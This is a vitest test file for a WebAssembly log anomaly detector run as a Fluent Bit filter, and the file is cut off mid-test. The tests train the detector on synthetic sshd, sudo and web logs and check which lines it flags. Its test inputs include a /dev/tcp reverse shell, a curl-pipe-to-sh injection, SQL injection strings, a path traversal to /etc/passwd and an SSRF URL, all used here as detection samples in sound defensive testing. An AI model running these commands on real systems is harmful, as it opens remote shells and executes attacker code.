// The module as a whole: it imports nothing, packs deterministically, and its state (the gate)
// carries from one record to the next.
import { describe, expect, it } from "vitest";
import { coreWasm, defaultLexicon, packedTarkin } from "../helpers.js";
import { packModule, packBlob, DEFAULT_SETTINGS } from "../../host/core/module/pack.js";
import { dataSegments } from "../../host/core/module/wasm.js";
import { parseLexicon, overlay } from "../../host/core/module/lexicon.js";
import { ModuleDriver } from "../../host/core/module/driver.js";
import { FluentBitFilter } from "../../host/core/module/harness.js";
import { packContents } from "../../host/core/module/filter-module.js";
import { sketchFill } from "../../host/core/module/model.js";

const TRAINING = [
  "Accepted password for alice from 10.0.0.5 port 52113 ssh2",
  "Accepted password for bob from 10.0.0.7 port 52114 ssh2",
  "session opened for user alice by (uid=0)",
  "session closed for user bob",
  "Accepted publickey for carol from 10.0.0.9 port 40022 ssh2",
];

describe("the built module", () => {
  for (const variant of ["release", "debug"] as const) {
    it(`${variant} build imports nothing`, () => {
      const m = new WebAssembly.Module(coreWasm(variant) as BufferSource);
      expect(WebAssembly.Module.imports(m)).toEqual([]);
    });
  }

  it("scores without a pack: no lexicon, no model, and says so", () => {
    const bare = ModuleDriver.fromBytes(coreWasm());
    expect(bare.hasPack).toBe(false);
    expect(bare.sentiment("a horrible terrible day").compound).toBe(0);
  });
});

describe("packing", () => {
  it("puts the pack in the data segment, byte-identical for identical inputs", () => {
    const contents = { lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS, info: { source: "test" } };
    const a = packModule(coreWasm(), contents);
    const b = packModule(coreWasm(), contents);
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
    const blob = packBlob(contents);
    expect(dataSegments(a).some((s) => Buffer.from(s.bytes).equals(Buffer.from(blob)))).toBe(true);
    // Packing a packed module replaces its pack rather than adding a second one.
    const again = packModule(a, contents);
    expect(Buffer.from(again).equals(Buffer.from(a))).toBe(true);
    expect(WebAssembly.Module.imports(new WebAssembly.Module(a as BufferSource))).toEqual([]);
  });

  it("overlay lexicons add and override entries", () => {
    const extra = parseLexicon("segfault\t-2.5\n# comment\nhorrible\t1.5\n", "overlay.tsv");
    const wasm = packModule(coreWasm(), { lexicon: overlay(defaultLexicon(), extra), settings: DEFAULT_SETTINGS });
    const t = ModuleDriver.fromBytes(wasm);
    expect(t.sentiment("segfault").compound).toBeLessThan(0);
    expect(t.sentiment("horrible").compound).toBeGreaterThan(0);
    expect(packedTarkin().sentiment("segfault").compound).toBe(0);
  });

  it("an overlay's word of valence 0 is taken out of the lexicon: VADER does not see it, capitals and boosters included", () => {
    const jargon = parseLexicon("free\t0\nblock\t0\n", "jargon.tsv");
    expect(overlay(defaultLexicon(), jargon).has("free")).toBe(false);
    const t = ModuleDriver.fromBytes(packModule(coreWasm(), { lexicon: overlay(defaultLexicon(), jargon), settings: DEFAULT_SETTINGS }));
    // Kept in with valence 0, VADER's capital rule read a shouted one as negative, and a booster moved it.
    const kept = ModuleDriver.fromBytes(packModule(coreWasm(), { lexicon: new Map([...defaultLexicon(), ["free", 0], ["block", 0]]), settings: DEFAULT_SETTINGS }));
    for (const text of ["Mem: FREE 1024 used 2048", "very free memory", "BLOCK 42 on disk sda"]) {
      expect(kept.sentiment(text).compound, text).not.toBe(0);
      expect(t.sentiment(text).compound, text).toBe(0);
    }
    expect(packedTarkin().sentiment("free memory").compound).toBeGreaterThan(0); // VADER's own: free +2.3
  });

  it("rejects a malformed overlay line with its place", () => {
    expect(() => parseLexicon("ok\t1\nbroken line\n", "bad.tsv")).toThrow(/bad.tsv:2/);
    expect(() => parseLexicon("ok\t1.234\n", "bad.tsv")).toThrow(/two decimals/);
  });
});

describe("training and scoring", () => {
  /** The field model needs a field's values seen often enough to call a shape rare: 40 rounds of the training lines. */
  function trained(surprise: "default" | "tarkin", gateSpreads = 0) {
    const trainer = packedTarkin({ settings: { surprise } });
    for (let round = 0; round < 40; round++) for (const line of TRAINING) trainer.train(line);
    return packedTarkin({ settings: { surprise, gateSpreads }, model: trainer.model() });
  }

  it("a packed model scores as the model it was trained as", () => {
    const trainer = packedTarkin({ settings: { surprise: "tarkin" } });
    for (const line of TRAINING) trainer.train(line);
    const model = trainer.model();
    expect(model.messages).toBe(TRAINING.length);
    const scorer = packedTarkin({ settings: { surprise: "tarkin" }, model });
    expect(scorer.model()).toEqual(model);
  });

  it("in default mode, a field shaped as never before is surprising, familiar lines are not", () => {
    const t = trained("default");
    expect(t.score("Accepted publickey for carol from 10.0.0.8 port 52115 ssh2").surprise).toBe(0);
    // The users are a few, each seen many times: one never seen is news (the token finder), and so
    // is one never seen after "password for" (carol logs in by key). A new address is not, but one
    // of a network the logins never came from is (all came from 10.0.0.0/16).
    expect(t.score("Accepted password for carol from 10.0.0.8 port 52115 ssh2").surprise).toBe(0.5);
    expect(t.score("Accepted publickey for carol from 10.0.77.8 port 52115 ssh2").surprise).toBe(0);
    expect(t.score("Accepted publickey for carol from 192.168.7.8 port 52115 ssh2").surprise).toBe(0.5);
    expect(t.explainFields("Accepted publickey for carol from 2a01:4f8::1 port 52115 ssh2").fields).toEqual([
      expect.objectContaining({ field: "after from", evidence: "new network", values: 120 }),
    ]);
    const trainer = packedTarkin();
    for (let round = 0; round < 40; round++) for (const line of TRAINING) trainer.train(line);
    const filter = new FluentBitFilter(packModule(coreWasm(), { model: trainer.model(), lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdict = JSON.parse(filter.filter(JSON.stringify({ log: "Accepted publickey for carol from 192.168.7.8 port 52115 ssh2" }))!);
    expect([verdict.tarkin_anomaly, verdict.tarkin_reason]).toEqual([true, "after from: a network it never held"]);
    // explain names the pair and counts its values: alice's and bob's 80 logins by password.
    const byPassword = t.explainFields("Accepted password for carol from 10.0.0.8 port 52115 ssh2").fields.filter((f) => f.evidence === "new value");
    expect(byPassword).toEqual([expect.objectContaining({ field: "after password for", values: 80 })]);
    const stranger = t.score("Accepted password for dave from 10.0.0.8 port 52115 ssh2");
    expect(stranger.surprise).toBe(0.5);
    expect(stranger.anomaly).toBe(true);
    const odd = t.score("Accepted password for ' OR 1=1 -- from ../../etc/passwd port 52115 ssh2");
    expect(odd.surprise).toBeGreaterThanOrEqual(0.5);
    expect(odd.surprise).toBeLessThan(1);
    expect(odd.anomaly).toBe(true); // very unusual, though it reads positive
    expect(odd.compound).toBeGreaterThan(0);
  });

  it("an address of a network the whole log never held is news wherever it stands, where the log's addresses came from a few networks", () => {
    // A bastion: its users log in from two networks, and now and then give up before logging in,
    // where sshd writes the address after the user's name (too seldom for that field's own set).
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) {
      const address = `10.${i % 2}.${(i * 7) % 250}.${(i * 13) % 250}`;
      const user = ["alice", "bob", "carol"][i % 3];
      trainer.train(`sshd[${4000 + i}]: Accepted publickey for ${user} from ${address} port ${40_000 + i} ssh2`);
      if (i % 20 == 0) trainer.train(`sshd[${4000 + i}]: Connection closed by authenticating user ${user} ${address} port ${40_000 + i} [preauth]`);
    }
    const model = trainer.model();
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdict = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    const guesser = "sshd[9005]: Connection closed by authenticating user alice 45.33.12.7 port 50126 [preauth]";
    expect([verdict(guesser).tarkin_anomaly, verdict(guesser).tarkin_reason]).toEqual([true, "after alice: a network the log never held"]);
    expect(packedTarkin({ model }).explainFields(guesser).fields).toContainEqual(expect.objectContaining({ field: "after alice", evidence: "new network in the log", values: 630 }));
    expect(verdict("sshd[9006]: Connection closed by authenticating user alice 10.1.9.9 port 50127 [preauth]").tarkin_anomaly).toBe(false);
    // A web site's clients come from everywhere: a network never seen is no news there.
    const web = packedTarkin();
    for (let i = 0; i < 600; i++) web.train(`${(i * 37) % 223 + 1}.${(i * 11) % 250}.0.${i % 250} - - [12/Mar/2024:10:00:00 +0100] "GET /index.html HTTP/1.1" 200 512`);
    expect(packedTarkin({ model: web.model() }).score(`45.33.12.7 - - [12/Mar/2024:10:00:00 +0100] "GET /index.html HTTP/1.1" 200 512`).surprise).toBe(0);
  });

  it("a user seen often, never within two hours of this time of day, is news where the log runs around the clock", () => {
    const at = (hour: number) => `Mar  4 ${String(hour).padStart(2, "0")}:17:00 bastion`;
    const trainer = packedTarkin();
    for (let day = 0; day < 20; day++) {
      for (let hour = 0; hour < 24; hour++) {
        trainer.train(`${at(hour)} CRON[1]: pam_unix(cron:session): session opened for user root by (uid=0)`);
        if (hour >= 9 && hour <= 17) for (const user of ["alice", "bob", "carol"]) trainer.train(`${at(hour)} sshd[2]: pam_unix(sshd:session): session opened for user ${user} by (uid=0)`);
      }
    }
    const model = trainer.model();
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdict = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    expect(verdict(`${at(11)} sshd[2]: pam_unix(sshd:session): session opened for user alice by (uid=0)`).tarkin_anomaly).toBe(false);
    const night = `${at(3)} sshd[2]: pam_unix(sshd:session): session opened for user alice by (uid=0)`;
    expect([verdict(night).tarkin_anomaly, verdict(night).tarkin_reason]).toEqual([true, "after for user: a value never held at this time of day"]);
    expect(packedTarkin({ model }).explainFields(night).fields).toEqual([expect.objectContaining({ field: "after for user", evidence: "new time of day", values: 180 })]);
  });

  it("the field after a number is named by the word before it too, and backs off to the number's shape where that has too few values", () => {
    // sshd: after "port N" come "ssh2" and, now and then, "[preauth]"; after other numbers, anything.
    const at = (month: string, i: number) => `${month} ${10 + (i % 18)} ${String(8 + (i % 10)).padStart(2, "0")}:${String(i % 60).padStart(2, "0")}:07 bastion`;
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) {
      if (i % 2) trainer.train(`${at("Mar", i)} sshd[${4000 + i}]: Accepted publickey for alice from 10.0.0.${i % 200} port ${40_000 + i} ssh2`);
      else if (i % 100 == 0) trainer.train(`${at("Mar", i)} sshd[${4000 + i}]: Connection closed by 10.0.0.${i % 200} port ${40_000 + i} [preauth]`);
      else trainer.train(`${at("Mar", i)} cron[${4000 + i}]: job ${i % 7} took ${i} ms for ${i % 9} items in ${(i % 3) + 1} shards`);
    }
    const t = packedTarkin({ model: trainer.model() });
    // "[preauth]" is 6 of the 306 values after "port N": rare there, yet not very unusual (after any
    // number, the field it was judged in before, it is 6 of about 2,000).
    const closed = t.explainFields(`${at("Mar", 7)} sshd[4107]: Connection closed by 10.0.0.7 port 40107 [preauth]`);
    expect(closed.fields).toContainEqual(expect.objectContaining({ field: "after port 40107", values: 306 }));
    expect(t.score(`${at("Mar", 7)} sshd[4107]: Connection closed by 10.0.0.7 port 40107 [preauth]`).surprise).toBeLessThan(0.5);
    // April's lines: no value ever came after "Apr" and a number; those fields are judged after the number's shape alone.
    const april = t.explainFields(`${at("Apr", 9)} sshd[4109]: Accepted publickey for alice from 10.0.0.9 port 40109 ssh2`);
    expect(april.covered).toBe(true);
    expect(april.fields.map((f) => f.field)).toEqual(["after Apr"]); // the day: a field never seen, as before
    expect(t.score(`${at("Apr", 9)} sshd[4109]: Accepted publickey for alice from 10.0.0.9 port 40109 ssh2`).anomaly).toBe(false);
  });

  it("a value judged in the field it backed off to names the field after it as training did; after a request line, its fields are after the line", () => {
    // After an address: 300 values after "peer", 10 after "client" (too few: "client"'s back off).
    const trainer = packedTarkin();
    for (let i = 0; i < 300; i++) trainer.train(`peer 10.0.0.${i % 250} "hello there" done`);
    for (let i = 0; i < 10; i++) trainer.train(`client 10.0.0.${i} "hello there" done`);
    const t = packedTarkin({ model: trainer.model() });
    // "done" is in the field after the quoted value after "client": 10 values, not a field never seen.
    expect(t.explainFields(`client 10.0.0.5 "hello there" done`).fields).toEqual([]);
    expect(t.score(`client 10.0.0.5 "hello there" done`).surprise).toBe(0);
    // The status after "HTTP/1.1" is one field whatever the request's last parameter.
    const web = packedTarkin();
    const request = (query: string, status: string) => `10.0.0.5 - - [12/Mar/2024:10:00:00 +0100] "GET /p?${query} HTTP/1.1" ${status} 512 "-" "curl/8.5.0"`;
    for (let i = 0; i < 200; i++) {
      web.train(request(`x=${i}`, "200"));
      web.train(request(`y=${i}`, "200"));
    }
    const odd = packedTarkin({ model: web.model() }).explainFields(request("x=7", "2OO"));
    expect(odd.fields).toContainEqual(expect.objectContaining({ field: "after HTTP/1.1", values: 400 }));
  });

  it("a key's value is judged after the record's subject too: a shell from a user who never ran one is news; another terminal is not", () => {
    // sudo: alice runs a shell now and then; dave never does. Terminals come in any number.
    const sudo = (user: string, tty: number, command: string) => `Mar 12 10:00:00 bastion sudo: ${user.padStart(8)} : TTY=pts/${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`;
    const commands: Record<string, string[]> = { alice: ["/bin/bash", "/usr/bin/certbot renew", "/usr/bin/apt-get update"], dave: ["/usr/bin/docker ps", "/sbin/iptables -L -n", "/usr/bin/apt-get update"] };
    const trainer = packedTarkin();
    for (let i = 0; i < 300; i++) for (const user of ["alice", "dave"]) trainer.train(sudo(user, user === "dave" ? 1 + (i % 3) : i % 4, user === "alice" && i % 100 == 7 ? "/opt/x-1/run.sh" : commands[user][i % 3]));
    const model = trainer.model();
    const t = packedTarkin({ model });
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const reason = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!).tarkin_reason;
    const shell = sudo("dave", 2, "/bin/bash");
    expect(t.score(shell).anomaly).toBe(true);
    expect(reason(shell)).toBe("COMMAND of dave: a value it never held");
    // A command of a shape rare among COMMAND's (alice's, 3 of 600), new to dave: dave's news, not COMMAND's.
    expect(reason(sudo("dave", 2, "/opt/x-1/run.sh"))).toBe("COMMAND of dave: a value it never held");
    expect(t.explainFields(shell).fields).toContainEqual(expect.objectContaining({ field: "COMMAND of dave", evidence: "new value", values: 300 }));
    // Held by dave, and alice's: nothing; dave on pts/0, a terminal he never had: its digits vary.
    expect(t.score(sudo("dave", 2, "/usr/bin/docker ps")).surprise).toBe(0);
    expect(t.score(sudo("alice", 2, "/bin/bash")).surprise).toBe(0);
    expect(t.score(sudo("dave", 0, "/usr/bin/docker ps")).surprise).toBe(0);
    // Without a subject (logfmt: the keys come first) a key's values are its field's alone.
    const logfmt = packedTarkin();
    for (let i = 0; i < 300; i++) for (const user of ["alice", "dave"]) logfmt.train(`user=${user} command=${commands[user][i % 3]}`);
    expect(packedTarkin({ model: logfmt.model() }).score("user=dave command=/bin/bash").surprise).toBe(0);
  });

  it("a field after a number too seldom seen to judge says what it held: a value shaped as most of its values were is not rare by the back-off", () => {
    // The field after any number holds words; alice's 20 runs of tail put a path after 200.
    const tail = (path: string) => `Mar 12 10:00:00 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail -n 200 ${path}`;
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) trainer.train(`Mar 12 10:00:00 bastion app[1]: served ${i} requests in ${i % 7} ms`);
    for (let i = 0; i < 20; i++) trainer.train(tail("/var/log/auth.log"));
    const t = packedTarkin({ model: trainer.model() });
    expect(t.score(tail("/var/log/auth.log")).surprise).toBe(0);
    // A shape it never held is judged by the back-off still.
    expect(t.score(tail("/var/log/auth.log;curl${IFS}203.0.113.9|sh")).anomaly).toBe(true);
  });

  // A bastion's syslog line `second`s past 10:00; and login `i` of its three users, its own sshd process, trained.
  const bastionAt = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
  function trainLogin(trainer: ReturnType<typeof packedTarkin>, i: number): { sshd: string; user: string } {
    const sshd = `sshd[${3000 + i * 7}]`;
    const user = ["alice", "bob", "carol"][i % 3];
    trainer.train(bastionAt(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
    trainer.train(bastionAt(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
    return { sshd, user };
  }

  it("a syslog program names the field of its messages' first words: a message it never began so is news; a program seen too seldom is judged as before", () => {
    const at = bastionAt;
    const trainer = packedTarkin();
    for (let i = 0; i < 300; i++) {
      const { sshd } = trainLogin(trainer, i);
      trainer.train(at(i, sshd, `Received disconnect from 10.8.1.${i % 50} port ${40000 + i}:11: disconnected by user`));
      trainer.train(at(i, `CRON[${9000 + i}]`, "pam_unix(cron:session): session opened for user root by (uid=0)"));
      // Another daemon's warnings, some of which begin "error:".
      trainer.train(at(i, "dockerd[812]", `${["error:", "level=info", "warning:"][i % 3]} container ${i % 11} health check ok`));
    }
    const model = trainer.model();
    const filter = new FluentBitFilter(packModule(coreWasm(), packContents(model, DEFAULT_SETTINGS)));
    const verdictOf = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    // An SSH scanner's connection as OpenSSH 8 and later write it: sshd never began a message so.
    const scanned = at(1, "sshd[41203]", "error: kex_exchange_identification: Connection closed by remote host");
    expect(verdictOf(scanned).tarkin_anomaly).toBe(true);
    const tarkin = packedTarkin({ model });
    expect(tarkin.explainFields(scanned).fields).toContainEqual(expect.objectContaining({ field: "after sshd", evidence: "new value" }));
    expect(verdictOf(at(2, "sshd[41204]", "Accepted publickey for bob from 10.8.1.7 port 40007 ssh2")).tarkin_anomaly).toBe(false);
    // Its reason where nothing else stands out: a message begun as none of sshd's, its words sshd's.
    expect(verdictOf(at(3, "sshd[41205]", "pam_unix(sshd:auth): session opened for user bob by (uid=0)")).tarkin_reason).toBe("after sshd: a value it never held");
    // A program seen too seldom to judge backs off to the field after any tag: covered, and no value of its own.
    const unseen = tarkin.score(at(1, "named[2306]", "notify question section contains no SOA"));
    expect(unseen.covered).toBe(true);
    expect(tarkin.explainFields(at(1, "named[2306]", "notify question section contains no SOA")).fields.filter((f) => f.evidence === "new value")).toEqual([]);
  });

  // Names that guessers try on SSH, for a bastion's training.
  const GUESSED = ["admin", "test", "oracle", "ubuntu", "postgres", "git", "guest", "ftp", "pi", "support", "deploy", "www", "mysql", "tomcat", "nagios", "hadoop", "minecraft", "steam", "jenkins", "ansible"];

  it("a very unusual line opens an alarm on its syslog process: its next 8 lines are anomalous; a daemon's lines and a mistyped password open none", () => {
    // A bastion: a new sshd process every session; systemd-logind one process throughout.
    const at = bastionAt;
    const trainer = packedTarkin();
    for (let i = 0; i < 300; i++) {
      const { sshd, user } = trainLogin(trainer, i);
      trainer.train(at(i, "systemd-logind[707]", `New session ${i} of user ${user}.`));
      trainer.train(at(i + 1, sshd, `pam_unix(sshd:session): session closed for user ${user}`));
      trainer.train(at(i + 1, "systemd-logind[707]", `Removed session ${i}.`));
      // The internet's guessers, whose names are many: "Invalid" is a first word sshd is known to use
      // here (on a host that never saw one, the first would be very unusual and open an alarm).
      if (i % 5 === 0) trainer.train(at(i, `sshd[${3001 + i * 7}]`, `Invalid user ${GUESSED[(i / 5) % GUESSED.length]}${["", "adm", "svc"][i % 3]} from 45.148.10.${i % 200} port ${50000 + i}`));
    }
    const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS))); // as `tarkin pack` packs it
    let second = 0; // each line its own second, unless told
    const scored = (process: string, text: string, same = false) => JSON.parse(filter.filter(JSON.stringify({ log: at(same ? second : ++second, process, text) }))!);
    const opened = "pam_unix(sshd:session): session opened for user alice by (uid=0)";
    expect(scored("sshd[9001]", opened).tarkin_anomaly).toBe(false);
    // alice by password from a network never seen: very unusual, so the session's lines are the alarm's.
    const alarm = scored("sshd[9999]", "Accepted password for alice from 185.220.101.245 port 37162 ssh2");
    expect(alarm.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(alarm.tarkin_anomaly).toBe(true);
    const first = scored("sshd[9999]", opened);
    expect(first).toMatchObject({ tarkin_anomaly: true, tarkin_fear: alarm.tarkin_fear, tarkin_reason: "sshd[9999]: after an alarm in this process" });
    expect(first.tarkin_surprise).toBeLessThan(0.2);
    expect(scored("sshd[9998]", opened).tarkin_anomaly).toBe(false); // another session
    const carried = [first.tarkin_anomaly];
    for (let i = 0; i < 8; i++) carried.push(scored("sshd[9999]", opened).tarkin_anomaly);
    expect(carried).toEqual([true, true, true, true, true, true, true, true, false]);
    // A daemon's very unusual line: its next lines, other sessions', are no alarm's.
    const daemon = scored("systemd-logind[707]", `New session 301 of user alice'; DROP TABLE users; --.`);
    expect(daemon.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(scored("systemd-logind[707]", "Removed session 17.", true).tarkin_anomaly).toBe(false);
    // A program training never saw may be a daemon: none of its lines is carried.
    expect(scored("xinetd[1798]", "removing chargen'; DROP TABLE users; --").tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(scored("xinetd[1798]", "removing chargen", true).tarkin_reason).not.toMatch(/alarm/);
    // A mistyped name alarms by its words, and opens no alarm on its session.
    const typo = scored("sshd[7777]", "Invalid user alcie from 10.8.1.3 port 40001");
    expect(typo).toMatchObject({ tarkin_anomaly: true, tarkin_reason: "security: Invalid" });
    expect(typo.tarkin_surprise).toBeLessThan(0.5);
    expect(scored("sshd[7777]", "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2", true).tarkin_anomaly).toBe(false);
  });

  it("an alarm of a session's process carries to the next 4 lines of its second and host; a program's of no process id to its own lines of the second that name its subject; a daemon's to none", () => {
    const at = (time: string, host: string, process: string, text: string) => `Mar 12 ${time} ${host} ${process}: ${text}`;
    const users = ["alice", "bob", "carol"];
    const trainer = packedTarkin();
    for (let i = 0; i < 300; i++) {
      const time = `10:${String(Math.floor(i / 60)).padStart(2, "0")}:${String(i % 60).padStart(2, "0")}.${String((i * 137) % 1000).padStart(3, "0")}`; // rsyslog's fractions
      const user = users[i % 3];
      trainer.train(at(time, "bastion", `sshd[${3000 + i * 7}]`, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
      trainer.train(at(time, "bastion", "systemd-logind[707]", `New session ${i} of user ${user}.`));
      trainer.train(at(time, "bastion", "sudo", `   ${user} : TTY=pts/${i % 4} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/apt-get update`));
      trainer.train(at(time, "bastion", "sudo", `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`));
      trainer.train(at(time, "bastion", "kernel", `[${1000 + i}.${String(i * 7).padStart(6, "0")}] usb 1-1: new high-speed USB device number ${i % 9} using ehci-pci`));
    }
    const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS)));
    const scored = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    const logind = (time: string, host = "bastion") => at(time, host, "systemd-logind[707]", "New session 301 of user alice.");
    expect(scored(logind("11:00:00.500")).tarkin_anomaly).toBe(false);
    // A root login: its logind line, in the same second, is the alarm's; one a second later, of another host, or after another line, is not.
    const alarm = scored(at("11:00:01.500", "bastion", "sshd[9999]", "Accepted password for alice from 185.220.101.245 port 37162 ssh2"));
    expect(alarm.tarkin_anomaly).toBe(true);
    expect(scored(logind("11:00:01.500"))).toMatchObject({ tarkin_anomaly: true, tarkin_fear: alarm.tarkin_fear, tarkin_reason: "systemd-logind[707]: in the second of an alarm on this host" });
    expect(scored(logind("11:00:01.500", "web1")).tarkin_anomaly).toBe(false); // another host: and the second is closed
    expect(scored(logind("11:00:01.500")).tarkin_anomaly).toBe(false);
    scored(at("11:00:02.500", "bastion", "sshd[9998]", "Accepted password for alice from 185.220.101.246 port 37163 ssh2"));
    expect(scored(logind("11:00:03.500")).tarkin_anomaly).toBe(false);
    // Its next 4 lines of the second at most, whatever their fraction of it.
    scored(at("11:00:04.500", "bastion", "sshd[9997]", "Accepted password for alice from 185.220.101.247 port 37164 ssh2"));
    expect(["11:00:04.120", "11:00:04.250", "11:00:04.380", "11:00:04.510", "11:00:04.640"].map((t) => scored(logind(t)).tarkin_anomaly)).toEqual([true, true, true, true, false]);
    // sudo logs no process id: a command nobody ran opens a second of sudo's own lines, whose next is
    // its session (and another program's line of that second is none of it).
    const sudoSession = "pam_unix(sudo:session): session opened for user root by alice(uid=0)";
    const shell = scored(at("11:00:05.500", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
    expect(shell.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(scored(at("11:00:05.500", "bastion", "sudo", sudoSession))).toMatchObject({ tarkin_anomaly: true, tarkin_reason: "sudo: in the second of an alarm on this host" });
    expect(scored(at("11:00:05.500", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(true);
    expect(scored(logind("11:00:05.500")).tarkin_anomaly).toBe(false);
    expect(scored(at("11:00:05.600", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(false); // after another line
    // Only lines that name its subject: bob's routine command of that second is none of alice's alarm.
    scored(at("11:00:05.650", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
    expect(scored(at("11:00:05.650", "bastion", "sudo", "   bob : TTY=pts/2 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt-get update")).tarkin_anomaly).toBe(false);
    // The kernel logs no process id either, and a boot writes a burst of lines a second: a line very
    // unusual by how it is written opens no second.
    const boot = scored(at("11:00:05.800", "bastion", "kernel", "ACPI: RSDP (v000 COMPAQ ) @ 0x000f6c60 {quirks=0x2f;mode=legacy}"));
    expect(boot.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(scored(at("11:00:05.800", "bastion", "kernel", "[1001.000007] usb 1-1: new high-speed USB device number 1 using ehci-pci")).tarkin_anomaly).toBe(false);
    // A line of no header at all is no second's.
    scored(at("11:00:05.700", "bastion", "sshd[9996]", "Accepted password for alice from 185.220.101.248 port 37165 ssh2"));
    expect(scored("session opened for user alice").tarkin_reason).not.toMatch(/alarm/);
    // A daemon's alarm opens no second.
    expect(scored(at("11:00:06.500", "bastion", "systemd-logind[707]", "New session 302 of user alice'; DROP TABLE users; --.")).tarkin_surprise).toBeGreaterThanOrEqual(0.5);
    expect(scored(logind("11:00:06.500")).tarkin_anomaly).toBe(false);
    // A process is its host's: another host's sshd of the same id is another session.
    expect(scored(at("11:00:08.500", "bastion", "sshd[9994]", "Accepted password for alice from 185.220.101.250 port 37167 ssh2")).tarkin_anomaly).toBe(true);
    const known = "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2";
    expect(scored(at("11:00:09.500", "web1", "sshd[9994]", known)).tarkin_anomaly).toBe(false);
    expect(scored(at("11:00:10.500", "bastion", "sshd[9994]", known)).tarkin_reason).toBe("sshd[9994]: after an alarm in this process");
  });

  it("a path (a request's, path=): a name never held under a directory of few names is news; a name that varies is not", () => {
    // A news site: articles under dated names (every path new), an API of two endpoints, a build's files.
    const line = (path: string) => `10.0.0.5 - - [12/Mar/2024:10:00:00 +0100] "GET ${path} HTTP/1.1" 200 512 "-" "Mozilla/5.0"`;
    const trainer = packedTarkin();
    for (let i = 0; i < 400; i++) {
      trainer.train(line(`/news/${["world", "sport", "tech"][i % 3]}/2024/03/story-${["a", "b", "c", "d"][i % 4]}-${48_000 + i}`));
      trainer.train(line(i % 2 ? `/api/v1/articles/${48_000 + i}/comments` : `/api/v1/recommendations?article=${48_000 + i}`));
      if (i % 4 == 0) trainer.train(line(["/", "/search?q=rain", "/assets/app.3f2a9c1b.js", "/favicon.ico"][(i >> 2) % 4]));
    }
    const t = packedTarkin({ model: trainer.model() });
    const filter = new FluentBitFilter(packModule(coreWasm(), { model: trainer.model(), lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const reason = (path: string) => JSON.parse(filter.filter(JSON.stringify({ log: line(path) }))!).tarkin_reason;
    expect(t.score(line("/news/sport/2024/03/story-e-49999")).surprise).toBe(0);
    expect(t.score(line("/assets/app.9e8d7c6b.js")).anomaly).toBe(false); // a new build's file: its name holds digits
    const scanner = t.score(line("/phpmyadmin/index.php"));
    expect(scanner.surprise).toBeGreaterThanOrEqual(0.5);
    expect(scanner.anomaly).toBe(true);
    expect(reason("/phpmyadmin/index.php")).toBe("in path /: a value it never held");
    expect(t.explainFields(line("/phpmyadmin/index.php")).fields).toContainEqual(expect.objectContaining({ field: "in path /", evidence: "new value", values: 900 }));
    expect(t.score(line("/api/v1/proxy?url=http://169.254.169.254/")).anomaly).toBe(true);
    expect(reason("/api/v1/proxy")).toBe("in path /api/v1/: a value it never held");
    expect(reason("/news/opinion")).toBe("in path /news/: a value it never held");
    // logfmt's path= alike.
    const app = packedTarkin();
    const logfmt = (path: string) => `2024-03-12T10:00:00Z INFO handled path=${path} status=200`;
    for (let i = 0; i < 400; i++) app.train(logfmt(i % 3 ? `/api/v1/orders/${48_000 + i}` : "/api/v1/health"));
    expect(packedTarkin({ model: app.model() }).explainFields(logfmt("/phpmyadmin/index.php")).fields).toContainEqual(expect.objectContaining({ field: "in path /", evidence: "new value" }));
    expect(packedTarkin({ model: app.model() }).score(logfmt("/api/v1/orders/51234")).surprise).toBe(0);
  });

  it("a URL whose scheme its field never held is news; a new host under a known scheme is not", () => {
    const logfmt = (url: string) => `2024-03-12T10:00:00Z INFO webhook stored webhook_url=${url} status=201`;
    const trainer = packedTarkin();
    const hosts = ["hooks.slack.com/services", "api.partner-shop.de/hooks", "erp.acme-corp.com/inbound"];
